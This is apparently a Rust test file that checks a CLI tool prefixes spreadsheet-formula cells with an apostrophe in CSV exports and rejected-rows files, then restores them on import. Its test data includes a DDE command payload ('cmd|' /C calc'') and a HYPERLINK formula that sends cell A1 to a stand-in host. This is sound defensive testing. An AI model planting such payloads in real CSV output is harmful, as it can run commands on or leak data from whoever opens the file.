//! Every CSV the command writes is safe to open in a spreadsheet: a cell that would run as a
//! formula gets an apostrophe (listings with `-o csv`, the rejected-rows file of an import), and
//! an import reads such a cell back as it was.

use perspectief_cli::spreadsheet::{neutralise, restore};

use crate::support::{Install, stdout};

const FORMULA: &str = "=HYPERLINK(\"https://example.invalid/?\"&A1;\"klik\")";

/// The cells of a CSV text, parsed as a spreadsheet would split them.
fn cells(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// No cell starts with a character that makes a spreadsheet evaluate it.
fn assert_no_formula(text: &str) {
    for row in cells(text) {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']), "formula cell {cell:?} in {text}");
        }
    }
}

#[test]
fn neutralise_and_restore_are_inverse_and_leave_plain_values_and_numbers_alone() {
    for cell in ["=1+1", "+31 6 1234", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "-", "+"] {
        let written = neutralise(cell);
        assert_eq!(written, format!("'{cell}"), "{cell:?}");
        assert_eq!(restore(&written), cell);
    }
    for cell in ["Amina", "", "'s-Hertogenbosch", "2024-01-01", "'=x is mine", "-12", "+3.5", "42"] {
        assert_eq!(neutralise(cell), cell, "{cell:?}");
    }
    assert_eq!(restore("'s-Hertogenbosch"), "'s-Hertogenbosch");
    assert_eq!(restore("'-12"), "'-12", "only what neutralise adds is removed");
}

#[test]
fn a_listing_as_csv_neutralises_a_name_that_is_a_formula() {
    let install = Install::new();
    install.json(&[
        "participant",
        "register",
        "--given-names",
        FORMULA,
        "--family-name=-2+3",
        "--country-of-origin",
        "ER",
    ]);
    let out = install.cmd().args(["participant", "list", "-o", "csv"]).output().unwrap();
    assert!(out.status.success());
    let text = stdout(&out);
    assert_no_formula(&text);
    let rows = cells(&text);
    let name = rows[0].iter().position(|h| h == "name").unwrap();
    assert_eq!(rows[1][name], format!("'{FORMULA} -2+3"), "{text}");
    // JSON is not a spreadsheet format: the value stays as it is.
    let list = install.json(&["participant", "list"]);
    assert_eq!(list[0]["name"], format!("{FORMULA} -2+3"));
}

#[test]
fn the_rejected_rows_file_neutralises_formulas_and_imports_back_as_it_was() {
    let install = Install::new();
    let file = install.dir.path().join("deelnemers.csv");
    std::fs::write(
        &file,
        "given_names,family_name,country_of_origin\nAmina,Testpersoon,ER\n@Selam,=1+2,XX\n+Yonas,-Voorbeeld,ZZ\n",
    )
    .unwrap();
    let rejected = install.dir.path().join("afgekeurd.csv");
    let v = install.import_participants_skipping_invalid(&file, &rejected);
    assert_eq!(v["imported"], 1);
    let text = std::fs::read_to_string(&rejected).unwrap();
    assert_no_formula(&text);
    let rows = cells(&text);
    assert_eq!(rows[1][..3], ["'@Selam", "'=1+2", "XX"], "{text}");

    // Corrected as a person would (the country fixed, the two report columns removed), the
    // file imports the original values.
    let mut corrected = String::from("given_names,family_name,country_of_origin\n");
    let mut w = csv::Writer::from_writer(Vec::new());
    for row in &rows[1..] {
        w.write_record([row[0].as_str(), row[1].as_str(), "ER"]).unwrap();
    }
    corrected.push_str(&String::from_utf8(w.into_inner().unwrap()).unwrap());
    std::fs::write(&file, corrected).unwrap();
    let v = install.json(&["import", "participants", file.to_str().unwrap()]);
    assert_eq!(v["imported"], 2, "{v}");
    let list = install.json(&["participant", "list"]);
    let mut names: Vec<&str> = list.as_array().unwrap().iter().map(|p| p["name"].as_str().unwrap()).collect();
    names.sort_unstable();
    assert_eq!(names, ["+Yonas -Voorbeeld", "@Selam =1+2", "Amina Testpersoon"]);
}
